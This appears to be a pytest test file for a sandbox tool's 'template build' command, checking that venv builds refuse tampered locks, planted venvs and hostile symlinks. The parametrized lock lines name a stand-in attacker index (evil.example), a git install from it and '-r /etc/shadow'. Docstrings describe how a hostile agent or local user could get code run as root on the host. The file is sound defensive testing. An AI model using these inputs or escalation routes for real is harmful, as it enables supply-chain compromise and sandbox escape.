"""`bastion template build NAME`: a template's python_env made from its hashed lock (issue 18).

The refusals run offline; the builds reach PyPI (marked `network`) and install one small wheel.
"""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

import bastion
from bastion.cli import EXIT_CONFIG, EXIT_FAILED, main
from bastion.config import TemplateConfig, load_config
from bastion.config.sandboxes import UNFINISHED_MARK
from bastion.safety.errors import ConfigError
from bastion.templates import builtin_lock_names, check_lock, template_lock
from tests.helpers import BASTION, demo_config_at, registry_reachable

# One small pure-Python wheel, pinned with its hashes (uv pip compile --generate-hashes).
SIX_LOCK = """six==1.17.0 \\
    --hash=sha256:4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274 \\
    --hash=sha256:ff70335d468e7eb6ec65b95b99d3a2836546063f63acc5171de367e834932a81
"""
# Another version, with a digest no file of it has.
FORGED_LOCK = "six==1.16.0 --hash=sha256:" + "0" * 64 + "\n"


def config_with(tmp_path: Path, template: str) -> Path:
    """The demo config with one more [[template]] (TOML lines, without the header)."""
    path = demo_config_at(tmp_path / "demo")
    path.write_text(path.read_text() + "\n[[template]]\n" + template)
    return path


def build(capsys: pytest.CaptureFixture[str], config: Path, name: str) -> tuple[int, str, str]:
    code = main(["template", "build", name, "--config", str(config)])
    out, err = capsys.readouterr()
    return code, out, err


def test_the_python_data_lock_ships_inside_the_package() -> None:
    """What `make install` and `template build python-data` read is package data, not the checkout's."""
    assert builtin_lock_names() == ("python-data",)
    with template_lock(TemplateConfig(name="python-data")) as lock:
        assert lock.is_relative_to(Path(bastion.__file__).parent)
        text = lock.read_text()
    assert "numpy==" in text
    assert "matplotlib==" in text
    assert "--hash=sha256:" in text


def test_serve_refuses_an_unbuilt_env_and_names_the_build_command(tmp_path: Path) -> None:
    config = config_with(tmp_path, 'name = "small"\npython_env = "envs/small"\n')
    with pytest.raises(ConfigError, match=r"not a virtual environment: build it \('bastion template build small"):
        load_config(config)
    assert load_config(config, envs_built=False).template[0].python_env == config.parent / "envs" / "small"


def test_template_build_names_an_unknown_template(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, err = build(capsys, demo_config_at(tmp_path / "demo"), "nope")
    assert code == EXIT_FAILED
    assert err == "bastion: no template 'nope' in the config (its [[template]] names: none): add it or fix the name\n"


def test_template_build_without_a_config_is_a_config_error(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("BASTION_CONFIG", raising=False)
    assert main(["template", "build", "python-data"]) == EXIT_CONFIG
    assert capsys.readouterr().err.startswith("bastion: no config given")


def test_template_without_a_lock_is_a_config_error(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Only python-data has a shipped lock; any other template must name its own."""
    config = config_with(tmp_path, 'name = "mine"\npython_env = "envs/mine"\n')
    code, _, err = build(capsys, config, "mine")
    assert code == EXIT_CONFIG
    assert "has no python_lock and bastion ships none of that name" in err
    assert not (config.parent / "envs").exists()


def test_template_without_a_python_env_is_a_config_error(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, err = build(capsys, config_with(tmp_path, 'name = "python-data"\n'), "python-data")
    assert code == EXIT_CONFIG
    assert err == "bastion: template 'python-data' has no python_env: set the folder to build it in\n"


def test_template_build_never_writes_over_a_folder_of_other_files(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A python_env pointed by mistake at a folder in use (/srv/www, /usr/local) is refused, untouched."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "index.html").write_text("keep")
    config = config_with(tmp_path, f'name = "python-data"\npython_env = "{victim}"\n')
    code, _, err = build(capsys, config, "python-data")
    assert code == EXIT_CONFIG
    assert "holds files and is not a virtual environment: choose a new or empty folder" in err
    assert sorted(p.name for p in victim.iterdir()) == ["index.html"]


def test_template_build_refuses_a_symlinked_env(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A link would send the install wherever it points (which the config's checks did not see)."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "link").symlink_to(elsewhere)
    config = config_with(tmp_path, f'name = "python-data"\npython_env = "{tmp_path / "link"}"\n')
    code, _, err = build(capsys, config, "python-data")
    assert code == EXIT_CONFIG
    assert "is a symbolic link: name the real folder" in err
    assert not any(elsewhere.iterdir())


@pytest.mark.parametrize("where", ["/", "state/envs/python-data"])
def test_template_build_refuses_the_root_and_the_state_folder(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, where: str
) -> None:
    """The config's own checks still run when the environment is not built yet."""
    config = config_with(tmp_path, f'name = "python-data"\npython_env = "{where}"\n')
    code, _, err = build(capsys, config, "python-data")
    assert code == EXIT_CONFIG
    assert "is /, the home folder, or overlaps the state folder" in err
    assert not (config.parent / "state" / "envs").exists()


def planted_venv(folder: Path) -> Path:
    """What a hostile agent writes: a folder that looks like a venv, whose python leaves a mark if run."""
    mark = folder.parent / f"{folder.name}-ran"
    (folder / "bin").mkdir(parents=True)
    (folder / "pyvenv.cfg").write_text("home = /usr/bin\n")
    python = folder / "bin" / "python"
    python.write_text(f"#!/bin/sh\ntouch {mark}\n")
    python.chmod(0o755)
    return mark


def test_a_python_env_in_a_workspace_is_refused_and_never_run(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """An agent writes the host workspace: a venv there would be its code, run by `template build` on the
    host (as root) and imported by every sandbox of the template. Refused by serve and build alike."""
    config = config_with(tmp_path, 'name = "python-data"\npython_env = "workspace/env"\n')
    mark = planted_venv(config.parent / "workspace" / "env")
    with pytest.raises(ConfigError, match=r"overlaps workspace 'default', which agents write"):
        load_config(config)
    code, _, err = build(capsys, config, "python-data")
    assert code == EXIT_CONFIG
    assert "overlaps workspace 'default', which agents write: move it to a folder of its own" in err
    assert not mark.exists()


def test_a_python_lock_in_an_inbox_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """The lock chooses what every sandbox of the template imports: not a file agents can change."""
    config = config_with(tmp_path, 'name = "mine"\npython_env = "envs/mine"\npython_lock = "inbox/x.lock"\n')
    (config.parent / "inbox" / "x.lock").write_text(SIX_LOCK)
    code, _, err = build(capsys, config, "mine")
    assert code == EXIT_CONFIG
    assert "python_lock" in err
    assert "overlaps inbox" in err
    assert not (config.parent / "envs").exists()


@pytest.mark.root
def test_template_build_never_runs_a_venv_another_user_made(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Its python and pip would run as root: a venv someone else owns (and could have filled) is refused."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give the folder to another uid")
    env = tmp_path / "envs" / "python-data"
    mark = planted_venv(env)
    os.chown(env, 12345, 12345)
    config = config_with(tmp_path, f'name = "python-data"\npython_env = "{env}"\n')
    code, _, err = build(capsys, config, "python-data")
    assert code == EXIT_CONFIG
    assert "belongs to uid 12345, not to this user: remove it, or build as its owner" in err
    assert not mark.exists()


@pytest.mark.root
def test_template_build_never_runs_a_venv_where_another_user_put_a_pth_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Attack (found by review): root's venv, but another user owns its site-packages and left a ``.pth`` there.
    `template build` ("brings it up to the lock") ran the venv's python with pip as root, and the .pth with
    it, on the host. Now the whole venv is judged first: refused, and nothing in it ran."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give a folder to another uid")
    env = tmp_path / "envs" / "python-data"
    subprocess.run(["/usr/bin/python3", "-I", "-m", "venv", "--without-pip", str(env)], check=True, cwd="/")
    site = next(env.glob("lib/python3*/site-packages"))
    mark = tmp_path / "pth-ran"
    (site / "bob.pth").write_text(f"import os; os.close(os.open({str(mark)!r}, os.O_CREAT | os.O_WRONLY))\n")
    os.chown(site / "bob.pth", 12345, 12345)
    config = config_with(tmp_path, f'name = "python-data"\npython_env = "{env}"\n')
    code, _, err = build(capsys, config, "python-data")
    assert code == EXIT_CONFIG
    assert f"could be changed by uid 12345, who owns {site / 'bob.pth'}" in err
    assert "remove it and run 'bastion template build python-data'" in err
    assert not mark.exists()


@pytest.mark.network
def test_template_build_makes_a_venv_from_a_hashed_lock_and_refuses_a_forged_hash(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Built on the system's Python (what sandboxes see); then a tampered index or mirror: pip checks
    every file against the lock and installs nothing. One test, so the venv is made once (seconds)."""
    if not registry_reachable():
        pytest.skip("the package registry (pypi.org:443) is not reachable from this machine")
    lock = tmp_path / "six.lock"
    lock.write_text(SIX_LOCK)
    config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
    env = config.parent / "envs" / "small"
    code, out, _ = build(capsys, config, "small")
    assert code == 0
    assert out == f"template 'small': {env} built (1 package from {lock})\n"
    assert "home = /usr/bin" in (env / "pyvenv.cfg").read_text()
    assert six_version(env) == "1.17.0"
    assert load_config(config).template[0].python_env == env  # now the server accepts it

    lock.write_text(FORGED_LOCK)
    code, _, err = build(capsys, config, "small")
    assert code == EXIT_FAILED
    assert err.startswith("bastion: pip could not install ")
    assert err.count("\n") == 1
    assert six_version(env) == "1.17.0"


def six_version(env: Path) -> str:
    imported = subprocess.run([env / "bin" / "python", "-c", "import six; print(six.__version__)"], capture_output=True)
    return imported.stdout.decode().strip()


def test_a_second_build_after_the_env_is_moved_aside_mid_build_is_refused(tmp_path: Path) -> None:
    """Found by review of the lock above: it was on the folder, but a build goes by path; with the half-made folder
    moved aside while a build ran, a second build made a new one there, locked it and ran beside the first.
    Invariant: one build at a time per python_env path, whatever folder is there."""
    with socket.create_server(("127.0.0.1", 0)) as index:
        config, env = _small_env_config(tmp_path, index)
        with _building_in_pip(config, env, index):
            env.rename(env.with_name("small.aside"))
            second = _another_build(config)
            assert second.returncode == EXIT_FAILED, second.stderr
            assert "is being built by another 'bastion template build'" in second.stderr
            assert not env.exists()


@pytest.mark.parametrize(
    "line",
    [
        "--no-binary=:all:",  # pip would build sdists: their setup.py runs on the host
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links /tmp/wheels",
        "-r /etc/shadow",
        "-e git+https://evil.example/pkg.git#egg=pkg",
        "pkg @ https://evil.example/pkg-1.0.tar.gz --hash=sha256:" + "0" * 64,
        "/tmp/pkg-1.0.tar.gz --hash=sha256:" + "0" * 64,
        "six==1.17.0 --no-binary=:all: --hash=sha256:" + "0" * 64,
        "six==1.17.0 --hash=sha256:" + "0" * 64 + " --trusted-host evil.example",
        "six>=1.0 --hash=sha256:" + "0" * 64,
        "six==${VERSION} --hash=sha256:" + "0" * 64,
    ],
)
def test_a_lock_with_pip_options_urls_or_includes_is_refused_before_pip_runs(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, line: str
) -> None:
    """A lock is a requirements file, which pip reads options from: one could turn --only-binary off or
    fetch from another index. Only pinned requirements with hashes pass; nothing is made."""
    lock = tmp_path / "evil.lock"
    lock.write_text(SIX_LOCK + line + "\n")
    config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
    code, _, err = build(capsys, config, "small")
    assert code == EXIT_CONFIG
    assert f"lock {lock} line 4 is not `name==version --hash=...`" in err
    assert err.count("\n") == 1
    assert not (config.parent / "envs").exists()


def test_the_shipped_lock_and_a_marked_lock_pass_the_lock_check(tmp_path: Path) -> None:
    with template_lock(TemplateConfig(name="python-data")) as lock:
        check_lock("python-data", lock)
    marked = tmp_path / "marked.lock"
    marked.write_text(
        "# comment\n"
        + SIX_LOCK
        + 'tzdata[x]==2024.1 ; sys_platform == "linux" \\\n    --hash sha256:'
        + "a" * 64
        + "\n"
    )
    check_lock("marked", marked)


def test_template_build_runs_no_module_planted_in_its_working_folder(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`python3 -m venv` and `python -m pip` put the working folder first on sys.path: root building
    from /tmp would import a planted venv.py or pip/ from there. Both run isolated (-I)."""
    planted = tmp_path / "cwd"
    (planted / "pip").mkdir(parents=True)
    mark = tmp_path / "ran"
    code = f"open({str(mark)!r}, 'w').close()\n"
    (planted / "venv.py").write_text(code)
    (planted / "pip" / "__init__.py").write_text(code)
    (planted / "pip" / "__main__.py").write_text(code)
    lock = tmp_path / "empty.lock"
    lock.write_text("# nothing to install\n")
    config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
    monkeypatch.chdir(planted)
    build(capsys, config, "small")  # pip refuses an empty lock: what matters is what ran
    assert (config.parent / "envs" / "small" / "pyvenv.cfg").is_file()
    assert not mark.exists()


@pytest.mark.root
@pytest.mark.parametrize("shared", ["sticky", "other-owner"])
def test_template_build_refuses_an_env_under_a_folder_other_users_write(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, shared: str
) -> None:
    """A local user who can write the folder above python_env (/tmp itself, or a folder they own)
    could create the env first or swap bin/python before pip runs it as root."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give the folder to another uid")
    folder = tmp_path / "shared"
    folder.mkdir()
    if shared == "sticky":
        folder.chmod(0o1777)
    else:
        os.chown(folder, 12345, 12345)
    config = config_with(tmp_path, f'name = "small"\npython_env = "{folder}/envs/small"\n')
    code, _, err = build(capsys, config, "small")
    assert code == EXIT_CONFIG
    culprit = "any user: they may write" if shared == "sticky" else "uid 12345, who owns"
    assert f"python_env {folder}/envs/small could be changed by {culprit} {folder}, and so what venv and pip" in err
    assert err.count("\n") == 1
    assert not (folder / "envs").exists()


@pytest.mark.root
def test_template_build_refuses_a_lock_other_users_can_write(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Whoever writes the lock chooses the wheels (a wheel's .pth runs whenever the venv's python
    starts: as root at the next build), and could swap it between the check and pip's read."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give the file to another uid")
    lock = tmp_path / "shared.lock"
    lock.write_text(SIX_LOCK)
    lock.chmod(0o666)
    config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
    code, _, err = build(capsys, config, "small")
    assert code == EXIT_CONFIG
    assert f"python_lock {lock} would let other users choose what pip installs (any user: they may write {lock})" in err
    assert not (config.parent / "envs").exists()


NOBODY: Final = 65534  # the other local user of these attacks


def planted_link(sticky: Path, name: str, target: Path) -> Path:
    """A link another user made in the sticky folder `sticky` (/tmp), pointing at `target`: theirs to re-point."""
    link = sticky / name
    link.symlink_to(target)
    os.chown(link, NOBODY, NOBODY, follow_symlinks=False)
    return link


def shared_tmp(tmp_path: Path) -> Path:
    """A folder like /tmp: everyone writes it, the sticky bit keeps each entry its maker's."""
    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    return sticky


@pytest.mark.root
def test_template_build_refuses_an_env_behind_a_link_another_user_planted_in_tmp(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Attack (found by review): python_env under /tmp/envs, where another user planted `envs -> /opt/envs` (a
    folder of root's). The folders were judged through the link (root's: passed), then venv and pip ran
    <python_env>/bin/python by path, as root, while the user re-pointed the link at their own venv. Now the link
    itself is judged: refused before anything is made or run. Not shown: the re-pointing race (nothing runs)."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give the link to another uid")
    sticky = shared_tmp(tmp_path)
    roots = tmp_path / "rootenvs"
    roots.mkdir(mode=0o755)
    theirs = sticky / "nob"
    mark = planted_venv(theirs / "data")
    link = planted_link(sticky, "envs", roots)
    lock = tmp_path / "empty.lock"
    lock.write_text("# nothing to install\n")
    env = link / "data"
    config = config_with(tmp_path, f'name = "small"\npython_env = "{env}"\npython_lock = "{lock}"\n')
    code, _, err = build(capsys, config, "small")
    assert code == EXIT_CONFIG
    assert err == (
        f"bastion: template 'small' python_env {env} could be changed by whoever may change the symbolic link "
        f"{link} on its path (give the real path), and so what venv and pip run as this user: build it in a folder "
        "root's alone, reached through no symbolic link\n"
    )
    assert list(roots.iterdir()) == []
    assert os.readlink(link) == str(roots)
    assert not mark.exists()


@pytest.mark.root
def test_template_build_refuses_a_lock_behind_a_link_another_user_planted_in_tmp(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Attack (found by review): python_lock /tmp/locks/six.lock, where another user planted `locks ->` a folder
    of root's. The lock was judged through the link, then read by path: re-pointed meanwhile, the user chose the
    wheels (a wheel's .pth runs as root with the venv's python). Now refused, and no venv is made."""
    if os.geteuid() != 0:
        pytest.skip("needs root to give the link to another uid")
    sticky = shared_tmp(tmp_path)
    locks = tmp_path / "rootlocks"
    locks.mkdir(mode=0o755)
    (locks / "six.lock").write_text(SIX_LOCK)
    link = planted_link(sticky, "locks", locks)
    lock = link / "six.lock"
    config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
    code, _, err = build(capsys, config, "small")
    assert code == EXIT_CONFIG
    assert err == (
        f"bastion: template 'small' python_lock {lock} would let other users choose what pip installs "
        f"(uid {NOBODY}, who owns {link} in the sticky folder {sticky}, and so could replace {lock}): keep the lock "
        "where root's alone may write, reached through no one else's link\n"
    )
    assert not (config.parent / "envs").exists()
    assert (locks / "six.lock").read_text() == SIX_LOCK


@pytest.mark.root
def test_template_build_still_builds_in_a_folder_of_roots_inside_tmp(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """What the checks above must keep: /tmp/build/envs/small, with /tmp/build root's (a sticky folder on the
    way lets no one else rename root's entry in it). The venv is made and an empty lock installed into it."""
    if os.geteuid() != 0:
        pytest.skip("needs root: the folder in the sticky one must be root's")
    sticky = shared_tmp(tmp_path)
    (sticky / "build").mkdir(mode=0o755)
    lock = tmp_path / "empty.lock"
    lock.write_text("# nothing to install\n")
    env = sticky / "build" / "envs" / "small"
    config = config_with(tmp_path, f'name = "small"\npython_env = "{env}"\npython_lock = "{lock}"\n')
    code, out, err = build(capsys, config, "small")
    assert code == 0, err
    assert out == f"template 'small': {env} built (0 packages from {lock})\n"
    assert (env / "pyvenv.cfg").is_file()


def _build_killed_in_pip(config: Path, env: Path, index: socket.socket) -> None:
    """`bastion template build small`, killed (SIGKILL, pip included) once pip has reached the index,
    which never answers: a build stopped part-way, its venv made and its packages not."""
    with _building_in_pip(config, env, index):
        pass


@contextlib.contextmanager
def _building_in_pip(config: Path, env: Path, index: socket.socket) -> Iterator[None]:
    """`bastion template build small` under way: pip has reached the index, which never answers; killed after."""
    argv = [str(BASTION), "template", "build", "small", "--config", str(config)]
    build = subprocess.Popen(
        argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, env=_build_env(config)
    )
    try:
        index.settimeout(120)
        reached, _ = index.accept()  # pip connects: the venv is made, the lock not installed
        reached.close()
        assert (env / "pyvenv.cfg").is_file()
        yield
    finally:
        os.killpg(build.pid, signal.SIGKILL)
        build.wait()


def _small_env_config(tmp_path: Path, index: socket.socket) -> tuple[Path, Path]:
    """The demo config with template "small" (six from SIX_LOCK) and `index` as its package index: the config's
    path and the env's."""
    lock = tmp_path / "six.lock"
    lock.write_text(SIX_LOCK)
    config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
    index_url = f'pip_index_url = "https://127.0.0.1:{index.getsockname()[1]}/simple"'
    config.write_text(config.read_text().replace("[sandboxes]\n", f"[sandboxes]\n{index_url}\n", 1))
    return config, config.parent / "envs" / "small"


def _another_build(config: Path) -> subprocess.CompletedProcess[str]:
    """`bastion template build small` beside one under way; killed, pip included, if it does not end in a minute."""
    argv = [str(BASTION), "template", "build", "small", "--config", str(config)]
    build = subprocess.Popen(
        argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True, env=_build_env(config)
    )
    try:
        out, err = build.communicate(timeout=60)
    finally:
        if build.poll() is None:
            os.killpg(build.pid, signal.SIGKILL)
            build.wait()
    return subprocess.CompletedProcess(argv, build.returncode, out, err)


def _build_env(config: Path) -> dict[str, str]:
    # A temp folder of its own: a kill leaves the lock's copy and pip's build folders there.
    temp = config.parent / "build-tmp"
    temp.mkdir(exist_ok=True)
    return {**os.environ, "TMPDIR": str(temp)}


def test_a_second_build_of_an_env_being_built_is_refused_in_one_line_and_touches_nothing(tmp_path: Path) -> None:
    """Found by attack (two configs naming one python_env): `template build` took no lock, so a second build
    started while the first made the venv ran pip before ensurepip had put it in (pip's own error and
    bastion's line), and the first to finish unmarked the folder while the other still installed. Invariant:
    the second is refused at once with one line, and the folder stays marked unfinished for the first."""
    with socket.create_server(("127.0.0.1", 0)) as index:
        config, env = _small_env_config(tmp_path, index)
        with _building_in_pip(config, env, index):
            second = _another_build(config)
            assert second.returncode == EXIT_FAILED
            assert second.stderr == (
                f"bastion: template 'small' python_env {env} is being built by another 'bastion template build': "
                "let it finish (run this one again after it if the lock changed)\n"
            )
            assert (env / UNFINISHED_MARK).is_file()


def test_a_build_killed_part_way_leaves_an_env_the_server_refuses_and_a_build_finishes(tmp_path: Path) -> None:
    """Found by attack: `template build` made the venv in place, so a build that failed or was killed while
    pip ran left one with pip alone, and the server served it as the template (`import numpy` failed in
    every sandbox). The folder is marked until the lock is in: the server refuses it, naming the build
    command, and the next build takes it up where the last one stopped."""
    with socket.create_server(("127.0.0.1", 0)) as index:
        port = index.getsockname()[1]
        lock = tmp_path / "six.lock"
        lock.write_text(SIX_LOCK)
        config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
        index_url = f'pip_index_url = "https://127.0.0.1:{port}/simple"'
        config.write_text(config.read_text().replace("[sandboxes]\n", f"[sandboxes]\n{index_url}\n", 1))
        env = config.parent / "envs" / "small"
        _build_killed_in_pip(config, env, index)
        with pytest.raises(ConfigError) as refused:
            load_config(config)
        assert str(refused.value) == (
            f"template 'small' python_env {env} was left half made by a build that failed or was stopped: "
            "run 'bastion template build small --config CONFIG' again"
        )
        _build_killed_in_pip(config, env, index)  # the next build gets to pip again: the folder is its own
        with pytest.raises(ConfigError, match="left half made"):
            load_config(config)


def test_a_rebuild_killed_part_way_leaves_an_env_the_server_refuses(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Found by review: only a new environment was marked, so a rebuild (the lock changed) killed while pip
    ran left an environment without the lock's packages that the server accepted."""
    with socket.create_server(("127.0.0.1", 0)) as index:
        lock = tmp_path / "six.lock"
        lock.write_text("")  # nothing to install: built offline
        config = config_with(tmp_path, f'name = "small"\npython_env = "envs/small"\npython_lock = "{lock}"\n')
        index_url = f'pip_index_url = "https://127.0.0.1:{index.getsockname()[1]}/simple"'
        config.write_text(config.read_text().replace("[sandboxes]\n", f"[sandboxes]\n{index_url}\n", 1))
        env = config.parent / "envs" / "small"
        assert build(capsys, config, "small")[0] == 0
        assert load_config(config).template[0].python_env == env
        lock.write_text(SIX_LOCK)
        _build_killed_in_pip(config, env, index)
        with pytest.raises(ConfigError, match="left half made by a build that failed or was stopped"):
            load_config(config)
